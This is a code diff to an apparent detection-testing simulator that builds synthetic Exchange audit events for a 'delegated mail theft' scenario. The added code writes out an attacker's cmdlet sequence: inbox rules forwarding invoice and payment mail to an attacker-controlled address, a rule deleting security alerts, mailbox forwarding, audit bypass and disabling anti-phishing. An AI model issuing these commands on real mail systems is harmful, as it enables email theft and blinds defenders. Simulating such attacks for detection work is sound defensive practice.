@@ -1,7 +1,7 @@
 """Delegated mail theft: mail read through permissions and rules rather than through the owner's own sign-in.
 
-Loud: an administrator's session gives itself full access to five mailboxes, reads them as a delegate, and makes a rule
-that forwards what speaks of money. Quiet: one mailbox, folder permission only, no rule.
+Loud: an administrator's session gives itself full access to five mailboxes, reads them as a delegate, and makes rules
+that forward what speaks of money, forwards the rest, and switches auditing and anti-phishing off. Quiet: one mailbox, folder permission only, no rule.
 """
 
 from __future__ import annotations
@@ -10,10 +10,80 @@ from crosswarden.rehearsal.addresses import attacker_place, home_place
 from crosswarden.rehearsal.applications import EXCHANGE, OUTLOOK_WEB
 from crosswarden.rehearsal.event import Event
 from crosswarden.rehearsal.mailbox import cmdlet, mail_bound
+from crosswarden.rehearsal.organisation import User
 from crosswarden.rehearsal.signins import signin
 from crosswarden.rehearsal.story import Scenario, Story
 
 __all__ = ["SCENARIO"]
+
+
+def _commands(story: Story, tick: int, thief: User, owner: User, address: str, session: str) -> list[Event]:
+    """Commands that hide the theft and let it go on."""
+    victim, chance = story.victim, story.chance
+    stem = f"EURPR04A009.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/{victim.domain}"
+    always = [
+        ("AlwaysDeleteOutlookRulesBlob", "False"),
+        ("Force", "False"),
+        ("Mailbox", owner.principal_name),
+    ]
+    words = ("SubjectOrBodyContainsWords", "invoice;payment;iban")
+    outside = f"collect@{story.attacker.domain}"
+    commands: list[tuple[str, list[tuple[str, str]], str]] = [
+        (
+            "New-InboxRule",
+            [*always, ("Name", "."), words, ("ForwardTo", outside), ("StopProcessingRules", "True")],
+            f"{stem}/{owner.name}\\.",
+        ),
+        (
+            "New-InboxRule",
+            [
+                *always,
+                ("Name", ".."),
+                ("From", "security@"),
+                ("DeleteMessage", "True"),
+                ("StopProcessingRules", "True"),
+            ],
+            f"{stem}/{owner.name}\\..",
+        ),
+        (
+            "Set-Mailbox",
+            [
+                ("Identity", owner.principal_name),
+                ("ForwardingSmtpAddress", f"smtp:{outside}"),
+                ("DeliverToMailboxAndForward", "True"),
+            ],
+            f"{stem}/{owner.name}",
+        ),
+        (
+            "Set-MailboxAuditBypassAssociation",
+            [("Identity", thief.principal_name), ("AuditBypassEnabled", "True")],
+            f"{stem}/{thief.name}",
+        ),
+        (
+            "Set-AntiPhishPolicy",
+            [("Identity", "Office365 AntiPhish Default"), ("Enabled", "False")],
+            "Office365 AntiPhish Default",
+        ),
+    ]
+    events = []
+    for name, parameters, subject in commands:
+        tick = story.after(tick, 30, 120)
+        events.append(
+            cmdlet(
+                victim,
+                chance,
+                tick,
+                name,
+                parameters,
+                actor=thief.principal_name,
+                key=thief.puid,
+                address=address,
+                object_id=subject,
+                application=EXCHANGE.id,
+                session=session,
+            )
+        )
+    return events
 
 
 def _tell(story: Story) -> None:
@@ -76,31 +146,10 @@ def _tell(story: Story) -> None:
             )
     story.step("mail-read", "Their mail is read as a delegate.", events)
     if loud:
-        tick = story.after(tick, 60, 200)
         story.step(
-            "rule-made",
-            "A rule forwards what speaks of money.",
-            cmdlet(
-                victim,
-                chance,
-                tick,
-                "New-InboxRule",
-                [
-                    ("AlwaysDeleteOutlookRulesBlob", "False"),
-                    ("Force", "False"),
-                    ("Mailbox", owners[0].principal_name),
-                    ("Name", "."),
-                    ("SubjectOrBodyContainsWords", "invoice;payment;iban"),
-                    ("ForwardTo", f"collect@{story.attacker.domain}"),
-                    ("StopProcessingRules", "True"),
-                ],
-                actor=thief.principal_name,
-                key=thief.puid,
-                address=place.address,
-                object_id=f"EURPR04A009.PROD.OUTLOOK.COM/Microsoft Exchange Hosted Organizations/{victim.domain}/rule",
-                application=EXCHANGE.id,
-                session=entry.session,
-            ),
+            "rules-made",
+            "Rules forward and delete, auditing and protection are switched off.",
+            _commands(story, story.after(tick, 60, 200), thief, owners[0], place.address, entry.session),
         )
     if story.world.cleanup:
         story.step(
@@ -132,6 +181,6 @@ SCENARIO = Scenario(
     "mail-theft",
     "Delegated mail theft",
     "Mailbox permissions and rules let one account read others' mail.",
-    ("T1098.002", "T1114.002", "T1114.003", "T1564.008"),
+    ("T1098.002", "T1114.002", "T1114.003", "T1564.008", "T1562.008"),
     _tell,
 )
